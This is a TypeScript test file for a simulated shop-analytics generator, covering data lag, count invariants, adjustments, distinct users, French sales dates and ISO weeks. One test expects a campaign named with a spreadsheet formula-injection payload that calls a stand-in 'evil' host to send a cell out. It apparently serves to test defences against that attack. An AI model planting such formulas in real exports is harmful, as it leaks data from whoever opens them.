// The simulated shop: the same for everyone, changing only as real figures do.
import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { addDays, isoWeek } from "../../../workbench/vendors/days.ts";
import { season } from "../../../workbench/vendors/seasons.ts";
import { distinct, shopRows, type ShopRow } from "../../../workbench/vendors/shop.ts";

const TODAY = "2026-11-21";
const rows = shopRows("2024-11-22", TODAY, TODAY);
const sum = (some: ShopRow[], name: "sessions" | "orders" | "revenue" | "conversions"): number =>
  some.reduce((total, row) => total + row[name], 0);

describe("the shop", () => {
  it("is the same each time it is asked, whole or in parts", () => {
    expect(shopRows("2024-11-22", TODAY, TODAY)).toEqual(rows);
    const parts = [shopRows("2024-11-22", "2025-06-30", TODAY), shopRows("2025-07-01", TODAY, TODAY)];
    expect(parts.flat()).toEqual(rows);
  });

  it("knows nothing of tomorrow", () => {
    expect(shopRows(addDays(TODAY, 1), addDays(TODAY, 9), TODAY)).toEqual([]);
    expect(rows.at(-1)?.day).toBe(TODAY);
  });

  it("counts whole things, parts never above their whole", () => {
    const wrong = rows.filter(({ line: _line, day: _day, ...counts }) => {
      const { sessions, engaged, users, newUsers, conversions, orders } = counts;
      const whole = Object.values(counts).every((count) => Number.isInteger(count) && count >= 0);
      const within = engaged <= sessions && users <= sessions && newUsers <= users && orders <= conversions;
      return !whole || !within;
    });
    expect(wrong).toEqual([]);
  });

  it("has campaigns named like formulas, and campaigns that run for a part of the year", () => {
    const campaigns = new Set(rows.map(({ line }) => line.campaign));
    expect(campaigns).toContain('=IMPORTXML("http://evil/?"&A1;"//a")');
    expect(campaigns).toContain("+promo bienvenue");
    const christmas = rows
      .filter(({ line }) => line.campaign === "Noël – idées cadeaux")
      .map(({ day }) => day.slice(5));
    expect(christmas.every((day) => day >= "11-10" && day <= "12-20")).toBe(true);
    expect(christmas.length).toBeGreaterThan(40);
  });

  it("goes on learning of a day for three days, and of its conversions for thirty", () => {
    const known = Array.from({ length: 36 }, (_, age) =>
      shopRows("2026-09-15", "2026-09-15", addDays("2026-09-15", age)),
    );
    const sessions = known.map((some) => sum(some, "sessions"));
    const conversions = known.map((some) => sum(some, "conversions"));
    const revenues = known.map((some) => sum(some, "revenue"));
    for (const age of [1, 2, 3]) expect(sessions[age]).toBeGreaterThan(sessions[age - 1]!);
    expect(new Set(sessions.slice(3)).size).toBe(1);
    for (const counts of [conversions, revenues]) expect(counts).toEqual([...counts].sort((a, b) => a - b));
    expect(conversions[30]).toBeGreaterThan(conversions[3]!);
    expect(new Set(conversions.slice(30)).size).toBe(1);
    expect(new Set(revenues.slice(30)).size).toBe(1);
  });

  it("leaves a row without a channel on a fresh day, which is gone once the day is complete", () => {
    const unassigned = (age: number): number =>
      shopRows("2026-09-15", "2026-09-15", addDays("2026-09-15", age)).filter(
        ({ line }) => line.channel === "Unassigned",
      ).length;
    expect([0, 1, 2, 3].map(unassigned)).toEqual([1, 1, 1, 0]);
  });

  it("is adjusted on order, there and nowhere else", () => {
    const order = { from: "2026-10-01", to: "2026-10-07", channel: "Email", sessions: 0.5 };
    const adjusted = shopRows("2026-09-24", "2026-10-14", TODAY, [order]);
    const usual = shopRows("2026-09-24", "2026-10-14", TODAY);
    const touched = ({ day, line }: ShopRow): boolean =>
      day >= order.from && day <= order.to && line.channel === "Email";
    expect(adjusted.filter((row) => !touched(row))).toEqual(usual.filter((row) => !touched(row)));
    const share = sum(adjusted.filter(touched), "sessions") / sum(usual.filter(touched), "sessions");
    expect(share).toBeCloseTo(0.5, 2);
    const without = shopRows("2026-10-03", "2026-10-03", TODAY, [
      { from: "2026-10-03", to: "2026-10-03", campaign: "Marque", removed: true },
    ]);
    expect(without.map(({ line }) => line.campaign)).not.toContain("Marque");
  });
});

describe("different people", () => {
  const groups = fc.array(fc.integer({ min: 0, max: 5000 }), { minLength: 1, maxLength: 400 });

  it("are no fewer than the largest group, and no more than all of them", () => {
    fc.assert(
      fc.property(groups, (users) => {
        const people = distinct(users);
        return people >= Math.max(...users) && people <= users.reduce((total, count) => total + count, 0);
      }),
    );
  });

  it("are never fewer with one group more", () => {
    fc.assert(
      fc.property(
        groups,
        fc.integer({ min: 0, max: 5000 }),
        (users, more) => distinct([...users, more]) >= distinct(users),
      ),
    );
  });

  it("are fewer over a week than the sum of its days", () => {
    const week = shopRows("2026-11-09", "2026-11-15", TODAY).map(({ users }) => users);
    expect(distinct(week)).toBeLessThan(week.reduce((total, count) => total + count, 0));
  });
});

describe("the calendar", () => {
  it("holds the soldes on their legal days", () => {
    // Article D310-15-2 of the Code de commerce. In 2026 the second Wednesday of January is the 14th, after the 12th: the
    // first counts. Then four weeks.
    const onSale = (day: string): boolean => season(day).purchases > 1;
    expect(["2026-01-06", "2026-01-07", "2026-02-03", "2026-02-04"].map(onSale)).toEqual([
      false,
      true,
      true,
      false,
    ]);
    expect(["2026-06-23", "2026-06-24", "2026-07-21", "2026-07-22"].map(onSale)).toEqual([
      false,
      true,
      true,
      false,
    ]);
    expect(["2025-01-07", "2025-01-08", "2025-02-04", "2025-02-05"].map(onSale)).toEqual([
      false,
      true,
      true,
      false,
    ]);
    // The last Wednesday of June 2022 was the 29th: after the 28th, the one before counts.
    expect(["2022-06-21", "2022-06-22"].map(onSale)).toEqual([false, true]);
  });

  it("has its best day on Black Friday, and its quietest month in August", () => {
    const days = Array.from({ length: 365 }, (_, index) => addDays("2026-01-01", index));
    const best = days.reduce((top, day) => (season(day).visits > season(top).visits ? day : top));
    // The fourth Thursday of November was the 26th in 2026, and the 28th in 2024, when the month began on a Friday.
    expect(best).toBe("2026-11-27");
    expect(season("2024-11-29").visits).toBeGreaterThan(1.5 * season("2024-11-22").visits);
    const month = (number: string): number => {
      const some = days.filter((day) => day.slice(5, 7) === number);
      return some.reduce((total, day) => total + season(day).visits, 0) / some.length;
    };
    const months = Array.from({ length: 12 }, (_, index) => month(String(index + 1).padStart(2, "0")));
    expect(months.indexOf(Math.min(...months))).toBe(7);
  });

  it("counts weeks as ISO 8601 does", () => {
    // 1 January 2027 is a Friday: its week began in 2026, which has 53.
    expect(isoWeek("2027-01-01")).toEqual({ year: "2026", week: "53" });
    expect(isoWeek("2024-12-30")).toEqual({ year: "2025", week: "01" });
    expect(isoWeek("2026-11-21")).toEqual({ year: "2026", week: "47" });
  });
});
